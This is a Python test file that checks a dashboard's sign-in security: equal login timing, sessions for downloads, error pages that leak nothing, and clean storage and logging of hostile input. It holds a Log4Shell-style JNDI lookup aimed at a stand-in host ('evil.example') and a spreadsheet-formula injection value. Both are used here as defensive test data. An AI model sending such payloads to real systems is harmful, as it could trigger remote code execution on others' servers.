"""What hostile people try at the door: measuring, guessing, coming back, reading errors."""

import logging
import re
from statistics import median
from time import perf_counter

import pytest
from sqlalchemy import delete, select
from starlette.testclient import TestClient

from core.actor import Actor
from core.db import engine
from core.db.models import AuditEvent, AuthSession, SignInThrottle
from core.telemetry.setup import LineFormatter
from dashboard.sign_in import attempt_queue as room
from tests.conftest import make_user
from tests.dashboard.conftest import EMAIL, HTML, House, sign_in

ATTEMPTS = 200
HOSTILE_AGENT = "Mozilla\x1b[31m ${jndi:ldap://evil.example/x}"


def seconds(email: str) -> float:
    """How long a wrong password takes, with the throttle as if nothing had happened."""
    with engine.transaction() as db:
        db.execute(delete(SignInThrottle))
    given = room.Credentials(email, "not the password", "192.0.2.1", None, None)
    begun = perf_counter()
    attempt = room.begin(given)
    checked = attempt.check(given.password)
    assert not room.conclude(given, attempt, checked=checked, previous=None)
    return perf_counter() - begun


def test_unknown_known_and_inactive_take_equally_long(superuser: Actor, system: Actor) -> None:
    make_user(system, "gone@example.com", is_staff=True, is_active=False)
    addresses = [EMAIL, "nobody@example.com", "gone@example.com"]
    seconds(EMAIL)
    seconds("nobody@example.com")
    taken: dict[str, list[float]] = {address: [] for address in addresses}
    for _ in range(ATTEMPTS):  # in turn, so that a busy machine is busy for all of them
        for address in addresses:
            taken[address].append(seconds(address))
    medians = [median(times) for times in taken.values()]
    assert max(medians) < 1.1 * min(medians), medians


def test_a_download_needs_the_session_of_its_moment(house: House, insider: TestClient) -> None:
    addresses = ["/downloads/items_by_user.csv", "/downloads/audit.csv"]
    cookie = {c.name: c.value or "" for c in insider.cookies.jar}
    insider.post("/sign-out")
    for address in addresses:
        assert insider.get(address).status_code == 401
        assert house.client(cookies=cookie).get(address).status_code == 401


def test_an_error_page_shows_a_trace_and_nothing_else(
    insider: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("dashboard.web.error_page.trace_id", lambda: "0123456789abcdef" * 2)
    for headers in (HTML, {}):
        answer = insider.get("/broken", headers=headers)
        assert answer.status_code == 500
        assert "0123456789abcdef" * 2 in answer.text
        assert not re.search(r"Traceback|\.py|/etc|RuntimeError|secret", answer.text)


def test_a_hostile_user_agent_stays_on_its_line(house: House, client: TestClient) -> None:
    client.headers["User-Agent"] = HOSTILE_AGENT
    assert sign_in(client).status_code == 303
    with engine.transaction() as db:
        stored = db.scalars(select(AuthSession.user_agent)).one() or ""
    assert stored == HOSTILE_AGENT.replace("\x1b", "?")
    record = logging.LogRecord("tally", logging.INFO, "", 0, "%s", (f"{HOSTILE_AGENT}\nx",), None)
    line = LineFormatter().format(record)
    assert len(line.splitlines()) == 1
    assert "\x1b" not in line


def test_an_address_of_a_failed_attempt_is_kept_as_one_printable_line(client: TestClient) -> None:
    for email in ("x\u2028y@example.com", "=cmd@example.com"):
        sign_in(client, email)
    with engine.transaction() as db:
        actors = db.scalars(select(AuditEvent.actor).where(AuditEvent.outcome == "refused")).all()
    assert all(actor.isprintable() for actor in actors)
